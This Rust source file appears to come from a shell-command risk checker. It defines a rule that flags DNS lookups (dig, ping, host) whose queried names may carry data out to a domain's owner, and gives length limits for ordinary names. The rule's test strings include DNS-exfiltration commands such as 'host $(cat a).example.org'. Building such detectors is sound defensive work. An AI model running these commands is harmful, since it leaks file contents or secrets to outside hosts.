//! Names sent to a resolver travel to whoever owns the domain, so a name can carry data away.

use wardroom_domain::RiskTier::L2Destructive;

use super::super::rule::{Reach, Rule};
use super::super::shell::{Feed, Walker};
use super::super::verdict::Effect;
use super::super::words::{Arg, Known};

pub static RULES: &[&Rule] = &[&CARRIES];

#[rustfmt::skip]
static CARRIES: Rule = Rule::code(
    "network.name-carries-data",
    L2Destructive,
    Reach::Remote,
    "asks for a name that may carry data away",
    &[
        "dig a0a1a2a3a4a5a6a7a8a9b0b1b2b3.example.org", "ping $x.example.org",
        "host $(cat a).example.org", "dig -f names.txt",
    ],
    &["dig example.org", "ping -c 1 localhost"],
);

/// Longest label and longest name that an ordinary host has.
const LABEL_CHARS_MAX: usize = 20;
const NAME_CHARS_MAX: usize = 40;
const LABELS_MAX: usize = 4;

impl Walker<'_> {
    /// Raises what a table allows, when a name is not a plain one.
    pub fn resolves(&mut self, name: &str, args: &[Arg]) -> Option<Feed> {
        for arg in args
            .iter()
            .filter(|arg| !arg.text.starts_with(['-', '+']) && arg.text.contains('.'))
        {
            self.draft.effect(Effect::Network {
                host: arg.text.clone(),
                method: name.to_owned(),
            });
        }
        let from_file = name == "dig" && args.iter().any(|arg| arg.text.starts_with("-f"));
        if from_file || !args.iter().all(is_ordinary) {
            self.add(&CARRIES, name);
        }
        None
    }
}

fn is_ordinary(arg: &Arg) -> bool {
    let mut labels = arg.text.trim_start_matches('@').split('.');
    let is_address = arg.text.contains(':')
        || arg
            .text
            .bytes()
            .all(|byte| byte.is_ascii_digit() || byte == b'.');
    arg.known == Known::Exact
        && (is_address
            || arg.text.starts_with(['-', '+'])
            || (arg.text.len() <= NAME_CHARS_MAX
                && labels.clone().count() <= LABELS_MAX
                && labels.all(|label| label.len() <= LABEL_CHARS_MAX)))
}
